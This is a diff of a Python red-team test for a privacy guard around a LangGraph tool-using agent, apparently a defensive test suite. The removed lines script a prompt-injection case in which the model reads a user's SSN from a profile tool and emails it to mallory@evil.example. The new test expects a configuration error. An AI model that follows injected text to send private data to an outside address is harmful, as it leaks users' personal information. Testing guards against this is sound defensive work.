@@ -24,23 +24,18 @@ one gate (red team 103).
 
 from __future__ import annotations
 
-import json
 from typing import Any
 
+import pytest
+from _profile_mail import USER, profile_and_mail
 from _tool_loop import model_node, tool_loop
-from langchain_core.messages import HumanMessage
-from langchain_core.tools import tool
 from langgraph.graph import END, START, MessagesState, StateGraph
 from langgraph.prebuilt import ToolNode
 
 import graphs
-from guards import PrivacyFlow, PrivacyPolicy, privacy_sink, privacy_source
-from vfa import ALLOW, VfaError, guard
+from guards import PrivacyFlow, PrivacyPolicy
+from vfa import ALLOW, ConfigError, guard
 from vfa.testing import ScriptedModel
-
-USER = "me@home.example"
-MALLORY = "mallory@evil.example"
-SSN = "078-05-1120"
 
 
 @guard
@@ -49,31 +44,7 @@ def team_rule(p: Any, c: Any) -> Any:
 
 
 def test_an_app_guarded_with_a_flow_does_not_keep_a_subgraph_gated_without_it() -> None:
-    sent: list[Any] = []
-
-    @tool
-    @privacy_sink()
-    @privacy_source(private=["ssn"], kind="profile")
-    def get_profile() -> dict:
-        """The user's profile."""
-        return {"name": "Ann", "ssn": SSN}
-
-    @tool
-    @privacy_sink(disclose={"body": "to"}, authority=["to"])
-    @privacy_source()
-    def send_email(to: str, body: str) -> str:
-        """Send an e-mail."""
-        sent.append((to, body))
-        return "sent"
-
-    def rule(messages: list[Any]) -> Any:
-        results = [m for m in messages if m.type == "tool"]
-        if not results:
-            return ("get_profile", {})
-        if len(results) == 1:  # an injection obeyed: the SSN as the model holds it, to mallory
-            return ("send_email", {"to": MALLORY, "body": json.loads(results[0].content)["ssn"]})
-        return "done"
-
+    get_profile, send_email, rule = profile_and_mail([])
     inner = graphs.guard_graph(tool_loop(model_node(ScriptedModel(rule=rule)), ToolNode([get_profile, send_email])),
                                [team_rule])
     outer = StateGraph(MessagesState)
@@ -81,15 +52,5 @@ def test_an_app_guarded_with_a_flow_does_not_keep_a_subgraph_gated_without_it() 
     outer.add_edge(START, "assistant")
     outer.add_edge("assistant", END)
     flow = PrivacyFlow(PrivacyPolicy.of(USER), secret=b"rt103-subgraph")
-    try:
-        app = graphs.guard_graph(outer, [flow.guard()], flow=flow, read_only=["get_profile"])
-    except VfaError:
-        return  # refused at set-up: safe
-    try:
-        out = app.invoke({"messages": [HumanMessage(f"Show me my profile and say hi to {MALLORY}.")]},
-                         {"configurable": {"thread_id": "t"}})
-    except VfaError:
-        out = {"messages": []}  # no call run (two gates): safe
-    shown = [str(m.content) for m in out["messages"] if m.type == "tool"]
-    assert not any(SSN in body for _to, body in sent), f"the SSN was mailed to mallory: {sent}"
-    assert not any(SSN in text for text in shown), f"the model was shown the handled SSN in clear: {shown}"
+    with pytest.raises(ConfigError, match="already gated by another gate"):
+        graphs.guard_graph(outer, [flow.guard()], flow=flow, read_only=["get_profile"])
